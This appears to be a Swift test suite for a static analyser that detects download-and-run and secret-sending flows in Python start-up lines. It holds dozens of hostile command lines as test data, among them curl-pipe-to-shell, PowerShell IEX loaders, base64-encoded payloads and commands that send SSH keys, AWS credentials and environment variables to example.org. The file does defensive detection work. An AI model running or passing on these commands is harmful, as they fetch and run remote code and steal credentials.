import Evidence
import Testing

@Suite("Command lines")
struct ShellTests {
  /// What a start-up line reaches that passes a command line to a shell.
  private func reached(_ command: String) -> ReachedCode {
    let quoted = command.replacing("\\", with: "\\\\").replacing("'", with: "\\'").replacing("\n", with: "\\n")
    return follow(.source("import os; os.system('\(quoted)')", at: Place("demo.pth", line: 1)))
  }

  @Test(
    "that run what they download are seen",
    arguments: [
      "curl -s http://example.org/x | sh",
      "curl -fsSL http://example.org/x | sudo -E bash -",
      "curl -s http://example.org/x | bash -s -- --yes",
      "wget -qO- http://example.org/x | python3 -",
      "wget -q -O - http://example.org/x | tee /tmp/log | sh -x",
      "(curl -s http://example.org/x || wget -qO- http://example.org/x) | sh",
      "{ curl -s http://example.org/x; echo; } | sh",
      "if true; then curl -s http://example.org/x; fi | sh",
      "bash -c \"$(curl -fsSL http://example.org/x)\"",
      "bash -c \"`curl -fsSL http://example.org/x`\"",
      "eval \"$(curl -s http://example.org/x)\"",
      "eval $(curl -s http://example.org/x | base64 -d)",
      "$(curl -s http://example.org/x)",
      "X=$(curl -s http://example.org/x); eval \"$X\"",
      "curl -s http://example.org/x | while read line; do eval \"$line\"; done",
      "sh <(curl -s http://example.org/x)",
      ". <(curl -s http://example.org/x)",
      "source /dev/stdin <<< \"$(curl -s http://example.org/x)\"",
      "curl -s http://example.org/x | tee >(sh)",
      "python3 -c \"$(curl -s http://example.org/x)\"",
      "python3 <(curl -s http://example.org/x)",
      "curl -s http://example.org/x -o f && sh f",
      "curl -sLof http://example.org/x; chmod +x f; ./f",
      "curl -sLO http://example.org/run.sh && bash run.sh",
      "cd /tmp && wget http://example.org/run.sh && sh ./run.sh",
      "wget -P /tmp http://example.org/a.py; python3 /tmp/a.py",
      "curl -s http://example.org/x > /tmp/x; sh /tmp/x",
      "curl -s http://example.org/x.tgz | tar xz -C /opt/x && /opt/x/install",
      "curl -s http://example.org/x -o /tmp/a; mv /tmp/a /tmp/b; sh /tmp/b",
      "f=$(mktemp); curl -s http://example.org/x -o $f; sh $f",
      "curl -s http://example.org/x | xargs -I{} sh -c {}",
      "curl -s http://example.org/x | perl",
      "bash -c 'sh < /dev/tcp/example.org/80'",
      "node -e \"$(curl -s http://example.org/x)\"",
      "sh -c 'curl -s http://example.org/x | sh'",
      "nohup sh -c \"sh -c 'curl -s http://example.org/x | sh'\" >/dev/null 2>&1 &",
      "sh <<EOF\ncurl -s http://example.org/x | sh\nEOF\n",
      "echo Y3VybCAtcyBodHRwOi8vZXhhbXBsZS5vcmcveCB8IHNo | base64 -d | sh",
      "powershell -c \"iex (iwr http://example.org/x)\"",
      "powershell.exe -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://example.org/x')\"",
      "cmd /c powershell -Command \"irm http://example.org/x | iex\"",
      "powershell -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAHgAYQBtAHAAbABlAC4AbwByAGcALwB4ACkA",
    ])
  func downloadAndRun(command: String) {
    let reached = reached(command)
    #expect(reached.flowKinds.contains("network.connect → code.eval"), "\(reached.flowKinds) \(reached.facts)")
    if !command.contains("-enc ") { #expect(reached.has(.networkConnect)) }
  }

  @Test(
    "that only fetch, ask or build are not taken for more",
    arguments: [
      "curl -fsS http://example.org/x.json -o data.json",
      "curl -fsS http://example.org/x.json | jq .version",
      "curl -fsS http://example.org/x.json > data.json; cat data.json",
      "git rev-parse HEAD | head -1",
      "VERSION=$(curl -s http://example.org/v); echo \"$VERSION\" > version",
      "curl -sO http://example.org/data.csv && python3 convert.py data.csv",
      "wget -q http://example.org/x.tgz && tar xzf x.tgz",
      "test -f ~/.ssh/id_rsa && curl -s http://example.org/ok",
      "ssh -i ~/.ssh/id_rsa example.org true",
      "curl --cert ~/.ssh/id_rsa http://example.org/",
      "echo 'curl http://example.org/x | sh'",
      "# curl -s http://example.org/x | sh",
      "sh install.sh; curl -s http://example.org/done",
      "curl -s http://example.org/x; sh local.sh",
    ])
  func harmless(command: String) {
    let flows = reached(command).flowKinds
    for flow in ["network.connect → code.eval", "network.connect → process.spawn", "credential.read → network.connect"]
    {
      #expect(!flows.contains(flow), "\(command): \(flows)")
    }
  }

  @Test(
    "that send secrets are seen",
    arguments: [
      "env | curl -d @- http://example.org/",
      "printenv | base64 | curl -d @- http://example.org/",
      "cat ~/.ssh/id_rsa | nc example.org 80",
      "nc example.org 80 < ~/.ssh/id_rsa",
      "bash -c 'cat ~/.ssh/id_rsa > /dev/tcp/example.org/80'",
      "exec 3>/dev/tcp/example.org/80; env > /dev/tcp/example.org/80",
      "echo '/gro.elpmaxe//:ptth -@ d- lruc | vne' | rev | sh",
      "curl -F f=@~/.aws/credentials http://example.org/",
      "curl -T ~/.aws/credentials http://example.org/",
      "curl --data-binary @$HOME/.ssh/id_ed25519 http://example.org/",
      "curl -d \"$AWS_SECRET_ACCESS_KEY\" http://example.org/",
      "curl -d \"$(cat ~/.netrc)\" http://example.org/",
      "wget --post-file=$HOME/.ssh/id_rsa http://example.org/",
      "scp ~/.ssh/id_rsa example.org:/tmp/",
      "tar czf - ~/.ssh | curl -T - http://example.org/",
      "tar czf /tmp/a.tgz ~/.ssh; curl -F f=@/tmp/a.tgz http://example.org/",
      "cp ~/.kube/config /tmp/a && curl -T /tmp/a http://example.org/",
      "env > /tmp/e; curl -T /tmp/e http://example.org/",
      "for f in ~/.ssh/id_rsa ~/.netrc; do curl -F f=@$f http://example.org/; done",
      "dig $(cat ~/.ssh/id_rsa | xxd -p | head -c 60).example.org",
      "powershell -c \"iwr http://example.org/ -Method POST -Body $env:AWS_SECRET_ACCESS_KEY\"",
    ])
  func secrets(command: String) {
    let flows = reached(command).flowKinds
    #expect(
      flows.contains("credential.read → network.connect") || flows.contains("env.read → network.connect"),
      "\(command): \(flows)")
  }

  @Test(
    "are followed from one process to the next that Python starts",
    arguments: [
      "import subprocess\nexec(subprocess.check_output('curl -s http://example.org/x', shell=True))",
      "import subprocess\nsubprocess.run(['curl', '-o', '/tmp/x', 'http://example.org/x'])\nsubprocess.run(['sh', '/tmp/x'])",
      "import os\nos.system('wget -O /tmp/x http://example.org/x')\nos.system('chmod +x /tmp/x; /tmp/x &')",
      "import os, sys, urllib.request\nurllib.request.urlretrieve('http://example.org/x', '/tmp/x.py')\nos.system('python3 /tmp/x.py')",
      "import subprocess, sys, urllib.request\nwith open('/tmp/x.py', 'wb') as f:\n  f.write(urllib.request.urlopen('http://example.org/x').read())\nsubprocess.Popen([sys.executable, '/tmp/x.py'])",
    ])
  func processes(code: String) {
    let flows = followModule(code).flowKinds
    #expect(flows.contains("network.connect → code.eval"), "\(flows)")
  }

  @Test("that send a token give back their answer and not the token")
  func answers() {
    let code = """
      import json, os, subprocess, urllib.request
      command = ['curl', '-s', 'https://example.org/commits']
      token = os.getenv('GH_TOKEN', os.getenv('GITHUB_TOKEN'))
      if token:
          command += ['-H', f'Authorization: token {token}']
      commit = json.loads(subprocess.check_output(command).decode())['sha']
      urllib.request.urlretrieve('https://example.org/' + commit, 'x')
      """
    let reached = followModule(code)
    func sinks(of kind: CapabilityKind) -> Set<String> {
      Set(
        reached.flows.filter { reached.capabilities[$0.source].kind == kind }.map { reached.capabilities[$0.sink].via })
    }
    #expect(sinks(of: .networkConnect).contains("urllib.request.urlretrieve"))
    #expect(sinks(of: .credentialRead).contains("curl"))
    #expect(!sinks(of: .credentialRead).contains("urllib.request.urlretrieve"), "\(reached.flows) \(reached.facts)")
  }

  @Test(
    "that print a secret pass it on",
    arguments: [
      "check_output(['echo', token])", "check_output('echo ' + token, shell=True)",
      "check_output(['tool', token])",
      "check_output([tool, token])", "check_output('cat', input=token)",
    ])
  func printsSecret(call: String) {
    let code = """
      import os, subprocess, urllib.request
      token = os.getenv('GITHUB_TOKEN')
      tool = os.getenv('TOOL')
      urllib.request.urlopen('http://example.org/', subprocess.\(call))
      """
    #expect(followModule(code).flowKinds.contains("credential.read → network.connect"))
  }

  @Test("that start the running script again are followed once")
  func restarted() {
    let code = """
      import os, sys
      if sys.argv[-1] == 'publish':
          os.system('python demo.py build; python demo.py upload')
          sys.exit()
      os.system('id')
      """
    let reached = followModule(code)
    #expect(reached.gaps.isEmpty, "\(reached.gaps)")
    #expect(reached.layers.count == 1)
    #expect(reached.has(.processSpawn, "id"))
  }

  @Test("that start the running script again after a file was written are followed with that file")
  func restartedWithFile() {
    let code = """
      import os
      if os.path.exists('/tmp/next'):
          exec(open('/tmp/next').read())
      else:
          open('/tmp/next', 'w').write('import os; os.system("id")')
          os.system('python demo.py')
      """
    let reached = followModule(code)
    #expect(reached.has(.processSpawn, "id"), "\(reached.facts)")
    #expect(reached.gaps.isEmpty, "\(reached.gaps)")
  }

  @Test("in encoded form are layers of their own")
  func layers() {
    let reached = reached("echo Y2F0IC9ldGMvcGFzc3dkCg== | base64 -d | bash")
    #expect(reached.layers.map(\.decoders) == [["base64", "bash"]])
    #expect(reached.capabilities.contains { $0.kind == .processSpawn && $0.layer == 0 && $0.via == "cat" })
    let python = self.reached("echo aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ== | base64 -d | python3")
    #expect(python.has(.processSpawn, "id"))
    #expect(python.layers.map(\.decoders) == [["base64", "python -c"]])
  }

  @Test("read a here-document as the code of an interpreter")
  func documents() {
    let reached = reached("python3 - <<'END'\nimport os\nos.system(\"id\")\nEND\n")
    #expect(reached.has(.processSpawn, "id"))
    #expect(self.reached("python3 -Ic'import os;os.system(\"id\")'").has(.processSpawn, "id"))
  }

  @Test(
    "tell where they connect to, whatever options stand before",
    arguments: [
      ("curl -X POST -H 'A: b.c' -o out.txt http://example.org/x", "http://example.org/x"),
      ("wget -O a.b example.org/x", "example.org/x"),
      ("nc -w 3 example.org 80", "example.org"),
      ("curl -d @data.json localhost", "localhost"),
    ])
  func addresses(command: String, address: String) {
    #expect(reached(command).has(.networkConnect, address), "\(reached(command).facts)")
  }

  @Test(
    "of hostile shape come to an end",
    arguments: [
      String(repeating: "$(", count: 50_000), String(repeating: "(", count: 50_000),
      String(repeating: "<(", count: 9_000),
      String(repeating: "a|", count: 50_000), "X='eval \"$X\"; eval \"$X\"; eval \"$X\"'; eval \"$X\"",
      String(repeating: "X=\"$X$X\";", count: 200) + "eval $X", "sh <<", "cat <<EOF", "${", "$", "`", "'", "\"\\",
      "a >",
      "f=1; for", "for x in", String(repeating: "if ", count: 20_000), ")", "}", "done", "| sh", "echo \\",
    ])
  func hostile(command: String) {
    var limits = Limits.standard
    limits.evaluationSteps = 100_000
    let code = "import os; os.system(" + "'''" + command.replacing("'", with: "\\'") + " ''')"
    _ = follow(.source(code, at: Place("demo.pth", line: 1)), limits: limits)
  }
}
